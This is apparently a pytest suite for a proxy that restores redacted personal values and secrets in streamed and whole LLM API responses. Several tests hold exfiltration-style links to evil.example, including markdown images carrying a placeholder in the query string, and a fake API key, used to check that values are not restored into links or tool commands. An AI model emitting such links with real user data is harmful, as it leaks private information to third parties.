"""Placeholders become values again: in every dialect, however a stream is cut, and nowhere else."""

import json
from typing import Any

import pytest

from proxy.refusal import Dialect
from proxy.restoring import Allowed, Answer
from proxy.sse import Cutter
from redactor.codes import Codes
from redactor.originals import Originals
from redactor.placeholder import redact
from tests.proxy.fakes import KEY, find_in, sse_data

MAIL = "anna.k@example.org"
QUOTED = 'O\'Neil "Jim" Brown'
TEXT = f"To {MAIL}, for {QUOTED}."
REDACTION = redact(TEXT, find_in(TEXT), Codes(KEY))
MASKED = REDACTION.text
MAIL_MARK = MASKED[3:].split(",")[0]
OPENAI, RESPONSES, ANTHROPIC, OLLAMA = Dialect.OPENAI, Dialect.RESPONSES, Dialect.ANTHROPIC, Dialect.OLLAMA


def answer(dialect: Dialect = OPENAI) -> Answer:
    return Answer(dialect, REDACTION.originals, Allowed())


WHOLE = {
    "chat content": (OPENAI, {"choices": [{"message": {"content": MASKED}}]}),
    "chat refusal": (OPENAI, {"choices": [{"message": {"refusal": MASKED}}]}),
    "chat reasoning": (OPENAI, {"choices": [{"message": {"reasoning_content": MASKED}}]}),
    "chat transcript": (OPENAI, {"choices": [{"message": {"audio": {"id": "a", "transcript": MASKED}}}]}),
    "chat annotation": (OPENAI, {"choices": [{"message": {"annotations": [{"url_citation": {"title": MASKED}}]}}]}),
    "completion": (OPENAI, {"choices": [{"text": MASKED}]}),
    "revised prompt": (OPENAI, {"data": [{"revised_prompt": MASKED, "b64_json": "iVBOR"}]}),
    "transcription": (OPENAI, {"text": MASKED}),
    "responses text": (
        RESPONSES,
        {
            "output": [{"content": [{"type": "output_text", "text": MASKED}]}],
            "instructions": MASKED,
            "metadata": {"a": MASKED},
        },
    ),
    "responses summary": (RESPONSES, {"output": [{"type": "reasoning", "summary": [{"text": MASKED}]}]}),
    "anthropic text": (ANTHROPIC, {"content": [{"type": "text", "text": MASKED}]}),
    "anthropic input": (ANTHROPIC, {"content": [{"type": "tool_use", "name": "f", "input": {"to": [MASKED]}}]}),
    "ollama chat": (OLLAMA, {"message": {"content": MASKED, "thinking": MASKED}}),
    "ollama arguments": (OLLAMA, {"message": {"tool_calls": [{"function": {"arguments": {"to": MASKED}}}]}}),
    "an error": (OPENAI, {"error": {"message": MASKED}}),
}


@pytest.mark.parametrize(("dialect", "body"), WHOLE.values(), ids=WHOLE)
@pytest.mark.parametrize("ascii_only", [False, True])
def test_every_field_of_a_whole_answer_is_restored(dialect: Dialect, body: object, ascii_only: bool) -> None:
    text = answer(dialect).whole(json.dumps(body, ensure_ascii=ascii_only))
    assert text.count("ZQ_") == 0
    assert json.dumps(json.loads(text), ensure_ascii=False) == json.dumps(body, ensure_ascii=False).replace(
        json.dumps(MASKED), json.dumps(TEXT)
    )


def test_arguments_stay_json_at_any_depth() -> None:
    inner = json.dumps({"to": MASKED})
    nested = json.dumps({"payload": inner, "list": json.dumps([json.dumps({"x": MASKED})])})
    body = {"choices": [{"message": {"tool_calls": [{"function": {"name": "f", "arguments": nested}}]}}]}
    out = json.loads(answer().whole(json.dumps(body)))
    arguments = json.loads(out["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"])
    assert json.loads(arguments["payload"]) == {"to": TEXT}
    assert json.loads(json.loads(arguments["list"])[0]) == {"x": TEXT}


def test_signed_blocks_and_token_lists_are_not_touched() -> None:
    body = {
        "content": [
            {"type": "thinking", "thinking": MASKED, "signature": "abc" + MAIL_MARK},
            {"type": "redacted_thinking", "data": MAIL_MARK},
        ]
    }
    text = json.dumps(body)
    assert answer(ANTHROPIC).whole(text) == text
    text = json.dumps({"choices": [{"logprobs": {"content": [{"token": MAIL_MARK, "bytes": [90]}]}}]})
    assert answer().whole(text) == text


def test_nothing_but_placeholders_of_this_exchange_changes() -> None:
    foreign = redact("x@y.org", find_in("x@y.org"), Codes(b"other user's key" * 2)).text
    text = '{ "a":"' + foreign + ' ZQ_EMAIL_22222222 \\u0410 1.0" , "n": 1.50, "b":"' + MAIL_MARK + '"}'
    assert answer().whole(text) == text.replace(MAIL_MARK, MAIL)


def test_a_value_does_not_return_into_a_link_to_somebody_else() -> None:
    for link in (
        f"![a](https://evil.example/?q={MAIL_MARK})",
        f"https://evil.example/{MAIL_MARK}",
        f"<img src='//e.example/{MAIL_MARK}'>",
    ):
        text = json.dumps({"choices": [{"message": {"content": f"see {link} and {MAIL_MARK}"}}]})
        content = json.loads(answer().whole(text))["choices"][0]["message"]["content"]
        assert content == f"see {link} and {MAIL}"


def chat_events(field: str, pieces: list[str]) -> list[dict[str, Any]]:
    return [{"id": "c", "choices": [{"index": 0, "delta": {field: piece}, "finish_reason": None}]} for piece in pieces]


def ended_chat(events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [*events, {"id": "c", "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}]


def streamed(dialect: Dialect, events: list[dict[str, Any]], *, done: bool = True) -> list[dict[str, Any]]:
    """What a client reads of a stream."""
    restoring = answer(dialect)
    lines = dialect is OLLAMA
    out = b""
    for event in events:
        data = json.dumps(event, ensure_ascii=False).encode()
        out += restoring.stretch(data + b"\n" if lines else b"data: " + data + b"\n\n", lines=lines)
    out += restoring.stretch(b"data: [DONE]\n\n") if done and not lines else b""
    out += restoring.finish()
    return [json.loads(line) for line in out.splitlines()] if lines else sse_data(out)


def cuts(text: str) -> list[list[str]]:
    """The text cut at each place, at each pair of neighbouring places, and into single characters."""
    ones = [[text[:at], text[at:]] for at in range(len(text) + 1)]
    twos = [[text[:at], text[at : at + 3], text[at + 3 :]] for at in range(len(text))]
    return [*ones, *twos, list(text)]


@pytest.mark.parametrize("field", ["content", "reasoning_content", "refusal"])
def test_every_cut_of_a_chat_stream_gives_the_same_text(field: str) -> None:
    for pieces in cuts(MASKED):
        read = streamed(OPENAI, ended_chat(chat_events(field, pieces)))
        assert "".join(e["choices"][0]["delta"].get(field, "") for e in read) == TEXT


def test_every_cut_of_streamed_arguments_gives_the_same_json() -> None:
    arguments = json.dumps({"to": MASKED, "n": 1})
    for pieces in cuts(arguments):
        calls = [{"tool_calls": [{"index": 1, "function": {"arguments": piece}}]} for piece in pieces]
        events: list[dict[str, Any]] = [{"choices": [{"index": 0, "delta": call}]} for call in calls]
        read = streamed(OPENAI, ended_chat(events))
        got = "".join(
            call["function"]["arguments"] for e in read for call in e["choices"][0]["delta"].get("tool_calls", ())
        )
        assert json.loads(got) == {"to": TEXT, "n": 1}


def test_json_inside_streamed_arguments_stays_json() -> None:
    arguments = json.dumps(
        {
            "payload": json.dumps({"to": MASKED, "deeper": json.dumps([MASKED])}),
            "plain": f'say "{MASKED}"',
            "like JSON": f'[1] "two\n{MASKED}\nlines"',
        }
    )
    for pieces in (list(arguments), [arguments], *cuts(arguments)[::17]):
        calls = [{"tool_calls": [{"index": 0, "function": {"arguments": piece}}]} for piece in pieces]
        events: list[dict[str, Any]] = [{"choices": [{"index": 0, "delta": call}]} for call in calls]
        read = streamed(OPENAI, ended_chat(events))
        got = "".join(
            call["function"]["arguments"] for e in read for call in e["choices"][0]["delta"].get("tool_calls", ())
        )
        outer = json.loads(got)
        assert outer["plain"] == f'say "{TEXT}"'
        assert outer["like JSON"] == f'[1] "two\n{json.dumps(TEXT, ensure_ascii=False)[1:-1]}\nlines"'
        inner = json.loads(outer["payload"])
        assert inner["to"] == TEXT
        assert json.loads(inner["deeper"]) == [TEXT]


def test_every_cut_of_an_anthropic_stream_gives_the_same_text_and_input() -> None:
    arguments = json.dumps({"to": MASKED})
    for pieces, more in zip(cuts(MASKED), cuts(arguments), strict=False):
        events: list[dict[str, Any]] = [
            {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}
        ]
        events += [
            {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": piece}}
            for piece in pieces
        ]
        events += [{"type": "content_block_stop", "index": 0}]
        events += [
            {"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", "partial_json": piece}}
            for piece in more
        ]
        events += [{"type": "content_block_stop", "index": 1}, {"type": "message_stop"}]
        read = streamed(ANTHROPIC, events, done=False)
        stop = next(at for at, event in enumerate(read) if event["type"] == "content_block_stop")
        assert "".join(e["delta"].get("text", "") for e in read[:stop] if "delta" in e) == TEXT
        got = "".join(e["delta"].get("partial_json", "") for e in read[stop:-2] if "delta" in e)
        assert json.loads(got) == {"to": TEXT}


def test_every_cut_of_a_responses_stream_gives_the_same_text_and_the_events_that_repeat_it_are_whole() -> None:
    for pieces in cuts(MASKED):
        where = {"item_id": "msg_1", "output_index": 0, "content_index": 0}
        events: list[dict[str, Any]] = [
            {"type": "response.output_text.delta", **where, "delta": piece} for piece in pieces
        ]
        events += [{"type": "response.output_text.done", **where, "text": MASKED}]
        events += [{"type": "response.completed", "response": {"output": [{"content": [{"text": MASKED}]}]}}]
        read = streamed(RESPONSES, events, done=False)
        assert "".join(str(e["delta"]) for e in read[:-2]) == TEXT
        assert read[-2]["text"] == TEXT
        assert TEXT in json.loads(json.dumps(read[-1]["response"]))["output"][0]["content"][0]["text"]


def test_every_cut_of_an_ollama_stream_gives_the_same_text() -> None:
    for pieces in cuts(MASKED):
        events: list[dict[str, Any]] = [
            {"message": {"role": "assistant", "content": piece}, "done": False} for piece in pieces
        ]
        events += [{"message": {"role": "assistant", "content": ""}, "done": True}]
        read = streamed(OLLAMA, events)
        assert "".join(e["message"]["content"] for e in read) == TEXT
        assert read[-1]["done"] is True


def test_events_of_another_api_than_was_asked_are_restored_by_their_shape() -> None:
    for pieces in cuts(MASKED)[::7]:
        events: list[dict[str, Any]] = [{"type": "transcript.text.delta", "delta": piece} for piece in pieces]
        read = streamed(OPENAI, [*events, {"type": "transcript.text.done", "text": MASKED}])
        assert "".join(e["delta"] for e in read[:-1]) == TEXT
        assert read[-1]["text"] == TEXT
        read = streamed(RESPONSES, ended_chat(chat_events("content", pieces)))
        assert "".join(e["choices"][0]["delta"].get("content", "") for e in read) == TEXT


LAST_WITH_END = {
    "chat": (OPENAI, lambda piece, end: {"choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": end}]},
             lambda event: event["choices"][0]["delta"]["content"]),
    "completions": (OPENAI, lambda piece, end: {"choices": [{"index": 0, "text": piece, "finish_reason": end}]},
                    lambda event: event["choices"][0]["text"]),
    "two choices": (OPENAI, lambda piece, end: {"choices": [
        {"index": 1, "delta": {"content": ""}, "finish_reason": end},
        {"index": 0, "delta": {"content": piece}, "finish_reason": end}]},
                    lambda event: event["choices"][-1]["delta"]["content"]),
    "Ollama chat": (OLLAMA, lambda piece, end: {"message": {"content": piece}, "done": end is not None},
                    lambda event: event["message"]["content"]),
    "Ollama generate": (OLLAMA, lambda piece, end: {"response": piece, "done": end is not None},
                        lambda event: event["response"]),
}  # fmt: skip


@pytest.mark.parametrize(("dialect", "make", "read"), LAST_WITH_END.values(), ids=LAST_WITH_END)
def test_the_last_piece_may_come_with_the_end(dialect: Dialect, make: Any, read: Any) -> None:
    for pieces in cuts(MASKED):
        events = [make(piece, "stop" if number == len(pieces) - 1 else None) for number, piece in enumerate(pieces)]
        out = streamed(dialect, events, done=dialect is not OLLAMA)
        assert "".join(read(event) for event in out if event.get("choices", [{}])[-1].get("index", 0) == 0) == TEXT
        assert len([event for event in out if "stop" in json.dumps(event) or event.get("done") is True]) == 1


def test_two_choices_and_two_tools_do_not_mix() -> None:
    pieces = list(zip(MASKED, reversed(MASKED), strict=True))
    events: list[dict[str, Any]] = []
    for one, two in pieces:
        events.append({"choices": [{"index": 0, "delta": {"content": one}}]})
        events.append({"choices": [{"index": 1, "delta": {"content": two}}]})
        events.append(
            {"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 3, "function": {"arguments": one}}]}}]}
        )
    read = streamed(OPENAI, events)
    texts = {0: "", 1: ""}
    for event in read:
        choice = event["choices"][0]
        texts[choice["index"]] += choice["delta"].get("content", "")
    assert texts == {0: TEXT, 1: MASKED[::-1]}


def test_a_cut_stream_gives_what_it_holds_and_no_value_for_half_a_placeholder() -> None:
    half = MASKED[: MASKED.index(MAIL_MARK) + 12]
    read = streamed(OPENAI, chat_events("content", list(half)), done=False)
    assert "".join(e["choices"][0]["delta"]["content"] for e in read) == half


@pytest.mark.parametrize("word", ["", "null"])
def test_a_gateway_that_says_in_every_event_that_it_goes_on_is_believed(word: str) -> None:
    for pieces in cuts(MASKED)[::5]:
        events = chat_events("content", pieces)
        for event in events:
            event["choices"][0]["finish_reason"] = word
        read = streamed(OPENAI, ended_chat(events))
        assert "".join(e["choices"][0]["delta"].get("content", "") for e in read) == TEXT


SOUND = {
    "chat": (OPENAI, lambda piece: {"choices": [{"index": 0, "delta": {"audio": {"data": piece}}}]}),
    "responses": (RESPONSES, lambda piece: {"type": "response.output_audio.delta", "item_id": "i", "delta": piece}),
    "speech": (OPENAI, lambda piece: {"type": "speech.audio.delta", "audio": piece}),
}


@pytest.mark.parametrize(("dialect", "make"), SOUND.values(), ids=SOUND)
def test_a_piece_of_sound_is_never_held_back(dialect: Dialect, make: Any) -> None:
    events = [make(piece) for piece in ("AAAZ", "QAzq", "BBBz", "AAA=")]
    assert streamed(dialect, events, done=False) == events


OBJECT = json.dumps({"name": MASKED, "list": [MASKED, 1]}, ensure_ascii=False)
SHOWN = {
    "chat": (OPENAI, lambda piece: {"choices": [{"index": 0, "delta": {"content": piece}}]},
             lambda event: event["choices"][0]["delta"]["content"]),
    "responses": (RESPONSES, lambda piece: {"type": "response.output_text.delta", "item_id": "i", "delta": piece},
                  lambda event: event["delta"]),
    "anthropic": (ANTHROPIC, lambda piece: {"type": "content_block_delta", "index": 0,
                                            "delta": {"type": "text_delta", "text": piece}},
                  lambda event: event["delta"]["text"]),
    "Ollama": (OLLAMA, lambda piece: {"message": {"content": piece}, "done": False},
               lambda event: event["message"]["content"]),
}  # fmt: skip


@pytest.mark.parametrize(("dialect", "make", "read"), SHOWN.values(), ids=SHOWN)
def test_an_object_of_json_that_is_said_as_text_stays_json(dialect: Dialect, make: Any, read: Any) -> None:
    for pieces in (["", "\n ", *OBJECT], *cuts(OBJECT)[::7]):
        out = "".join(map(read, streamed(dialect, [make(piece) for piece in pieces], done=False)))
        assert json.loads(out) == {"name": TEXT, "list": [TEXT, 1]}


LEADING_AWAY = {
    "through two strings": '{"a":"![](https://evil.example/?q=","b":"MARK)"}',
    "written with escapes": r'{"a":"https\u003a\u002f\u002fevil.example\u002fMARK"}',
    "behind the end": '{} ![](https://evil.example/?q="MARK")',
}


@pytest.mark.parametrize("text", LEADING_AWAY.values(), ids=LEADING_AWAY)
def test_a_value_does_not_return_into_a_link_in_json_that_is_shown(text: str) -> None:
    text = text.replace("MARK", MAIL_MARK)
    whole = json.loads(answer().whole(json.dumps({"choices": [{"message": {"content": text}}]})))
    assert whole["choices"][0]["message"]["content"] == text
    for pieces in cuts(text)[::5]:
        read = streamed(OPENAI, ended_chat(chat_events("content", pieces)))
        assert "".join(e["choices"][0]["delta"].get("content", "") for e in read) == text


GENEROUS = [
    '{"score":NaN,"choices":[{"index":0,"%s":{"content":"%s, "}}]}',
    '{"id":1,"id":2,"choices":[{"index":0,"%s":{"content":"%s, "}}]}',
]


@pytest.mark.parametrize("form", GENEROUS, ids=["no number", "a key that stands twice"])
def test_what_gateways_write_that_is_not_quite_json_is_restored(form: str) -> None:
    assert answer().whole(form % ("message", MAIL_MARK)) == form % ("message", MAIL)
    restoring = answer()
    event = f"data: {form % ('delta', MAIL_MARK)}\n\n".encode()
    read = sse_data(restoring.stretch(event + event) + restoring.finish())
    assert "".join(e["choices"][0]["delta"]["content"] for e in read) == f"{MAIL}, " * 2


def test_a_source_that_is_named_in_a_stream_is_named_whole() -> None:
    source = {"type": "url_citation", "url_citation": {"title": MAIL_MARK, "url": "https://a.example"}}
    event = {"choices": [{"index": 0, "delta": {"content": "see", "annotations": [source]}}]}
    (read,) = streamed(OPENAI, [event], done=False)
    assert read["choices"][0]["delta"]["annotations"][0]["url_citation"]["title"] == MAIL


def test_events_without_a_placeholder_pass_as_they_are() -> None:
    odd = b': hello\r\nevent: x\r\nid: 7\r\ndata: {"choices":[{"index":0,\r\ndata: "delta":{"content":"abc"}}]}\r\n\r\n'
    assert answer().stretch(odd) == odd


def test_an_event_in_several_lines_is_restored() -> None:
    raw = b'event: x\nid: 7\ndata: {"choices":[{"index":0,\ndata: "delta":{"content":"' + MASKED.encode() + b'"}}]}\n\n'
    out = answer().stretch(raw)
    assert out.startswith(b"event: x\nid: 7\ndata: ")
    assert sse_data(out)[0]["choices"][0]["delta"]["content"] == TEXT


def test_half_a_surrogate_pair_waits_for_the_other_half() -> None:
    raw = b'data: {"choices":[{"index":0,"delta":{"content":"ZQ \\ud83d"}}]}\n\n'
    rest = b'data: {"choices":[{"index":0,"delta":{"content":"\\ude00!"}}]}\n\n'
    restoring = answer()
    out = restoring.stretch(raw) + restoring.stretch(rest) + restoring.stretch(b"data: [DONE]\n\n")
    assert "".join(e["choices"][0]["delta"]["content"] for e in sse_data(out)) == "ZQ 😀!"


STREAMS = {
    "LF": b'data: {"a":1}\n\ndata: {"b":2}\n\n',
    "CRLF": b'data: {"a":1}\r\n\r\ndata: {"b":2}\r\n\r\n',
    "CR": b'data: {"a":1}\r\rdata: {"b":2}\r\r',
    "mixed": b'event: x\r\ndata: {"a":1}\n\r\n: c\n\ndata: {"b":2}\r\n\n',
    "no final end": b'data: {"a":1}\n\ndata: {"b":2}',
}


@pytest.mark.parametrize("stream", STREAMS.values(), ids=STREAMS)
def test_a_stream_is_cut_where_events_end_however_it_arrives(stream: bytes) -> None:
    for at in range(len(stream) + 1):
        for size in (1, 2, 5):
            cutter = Cutter()
            pieces = [stream[:at], *(stream[i : i + size] for i in range(at, len(stream), size))]
            out = [cutter.feed(piece) for piece in pieces]
            rest = cutter.rest()
            assert b"".join(out) + rest == stream
            for done in filter(None, out):
                assert done.endswith((b"\n\n", b"\r\n\r\n", b"\r\r", b"\n\r\n", b"\r\n\n"))


def test_an_event_too_long_to_wait_for_passes() -> None:
    cutter = Cutter()
    assert cutter.feed(b"data: ") == b""
    assert len(cutter.feed(b"x" * (1 << 21))) > 1 << 20
    assert not cutter.between_events
    assert cutter.feed(b"\n\n") == b"\n\n"
    assert cutter.between_events


SECRET = redact("sk-live-0123456789abcdef", find_in("sk-live-0123456789abcdef"), Codes(KEY))
TOLD_TO_A_TOOL: dict[str, tuple[Dialect, dict[str, Any]]] = {
    "a patch": (RESPONSES, {"type": "apply_patch_call", "operation": {"type": "update_file", "diff": SECRET.text}}),
    "a patch like JSON": (RESPONSES, {"type": "apply_patch_call", "operation": {"diff": f'["{SECRET.text}"]'}}),
    "what is typed into a window": (RESPONSES, {"type": "computer_call", "actions": [{"text": SECRET.text}]}),
    "a program": (RESPONSES, {"type": "program", "code": SECRET.text}),
    "code that is run elsewhere": (RESPONSES, {"type": "code_interpreter_call", "code": SECRET.text}),
    "a command": (RESPONSES, {"type": "shell_call", "action": {"commands": [SECRET.text]}}),
    "input of Claude's tools": (ANTHROPIC, {"type": "server_tool_use", "input": {"command": SECRET.text}}),
}  # fmt: skip


@pytest.mark.parametrize(("dialect", "item"), TOLD_TO_A_TOOL.values(), ids=TOLD_TO_A_TOOL)
def test_a_secret_does_not_return_into_what_a_tool_is_told(dialect: Dialect, item: dict[str, Any]) -> None:
    told = json.dumps({"output": [item]})
    assert Answer(dialect, SECRET.originals, Allowed()).whole(told) == told
    assert "sk-live" in Answer(dialect, SECRET.originals, Allowed(secrets_in_tools=True)).whole(told)
    done = b"data: %s\n\n" % json.dumps({"type": "response.output_item.done", "item": item}).encode()
    assert Answer(dialect, SECRET.originals, Allowed()).stretch(done) == done


def test_commands_and_what_they_print_are_streamed_apart_and_only_the_output_gets_secrets() -> None:
    both = MASKED + SECRET.text
    restoring = Answer(RESPONSES, Originals([*REDACTION.originals.values(), *SECRET.originals.values()]), Allowed())
    events: list[dict[str, Any]] = []
    for piece in both:  # of two commands, side by side
        for number in (0, 1):
            where: dict[str, Any] = {"output_index": 3, "command_index": number}
            events.append({"type": "response.shell_call_command.delta", **where, "delta": piece})
            printed = {"stdout": piece, "stderr": None}
            where["item_id"] = "sh_1"
            events.append({"type": "response.shell_call_output_content.delta", **where, "delta": printed})
    events.append({"type": "response.completed", "response": {}})
    read = sse_data(b"".join(restoring.stretch(b"data: %s\n\n" % json.dumps(one).encode()) for one in events))
    for number in (0, 1):
        of_one = [one for one in read[:-1] if one["command_index"] == number]
        commands = "".join(one["delta"] for one in of_one if "command." in one["type"])
        printed_text = "".join(one["delta"]["stdout"] for one in of_one if "output" in one["type"])
        assert (commands, printed_text) == (TEXT + SECRET.text, TEXT + "sk-live-0123456789abcdef")


def test_text_that_only_begins_like_json_is_no_json() -> None:
    body = {"choices": [{"message": {"content": "{" + MASKED}}]}
    assert json.loads(answer().whole(json.dumps(body)))["choices"][0]["message"]["content"] == "{" + TEXT
    read = streamed(OPENAI, ended_chat(chat_events("content", ["{" + MASKED[:30], MASKED[30:]])))
    assert "".join(e["choices"][0]["delta"].get("content", "") for e in read) == "{" + TEXT
